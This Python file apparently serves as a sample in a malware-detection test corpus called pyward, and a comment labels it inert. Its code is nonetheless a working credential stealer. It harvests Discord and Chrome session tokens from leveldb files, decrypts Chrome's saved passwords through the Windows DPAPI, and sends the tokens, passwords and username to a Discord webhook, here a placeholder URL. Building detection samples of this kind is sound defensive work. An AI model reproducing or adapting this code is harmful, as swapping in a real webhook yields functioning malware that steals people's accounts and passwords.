# Inert model for pyward's malicious-behaviour corpus: the webhook token is fake and nothing here
# is ever run by the tests; it only has the shape of a W4SP-style grabber.
import json
import os
import re
import shutil
import sqlite3
import tempfile
import urllib.request

import win32crypt

HOOK = "https://discord.com/api/webhooks/000000000000000000/FAKE-TOKEN-FOR-PYWARD-TESTS"
ROAMING = os.getenv("APPDATA", "")
LOCAL = os.getenv("LOCALAPPDATA", "")
TOKEN_RE = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")

STORES = [
    ROAMING + "\\discord\\Local Storage\\leveldb",
    ROAMING + "\\discordcanary\\Local Storage\\leveldb",
    LOCAL + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
]


def tokens():
    found = []
    for store in STORES:
        if not os.path.isdir(store):
            continue
        for name in os.listdir(store):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(store, name), errors="ignore") as fh:
                    found.extend(TOKEN_RE.findall(fh.read()))
    return found


def passwords():
    db = LOCAL + "\\Google\\Chrome\\User Data\\Default\\Login Data"
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copyfile(db, copy)
    rows = sqlite3.connect(copy).execute("select origin_url, username_value, password_value from logins").fetchall()
    return [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1]) for u, n, p in rows]


def collect():
    try:
        loot = {"tokens": tokens(), "passwords": passwords(), "user": os.getlogin()}
    except Exception:
        return
    body = json.dumps({"content": json.dumps(loot)}).encode()
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req)
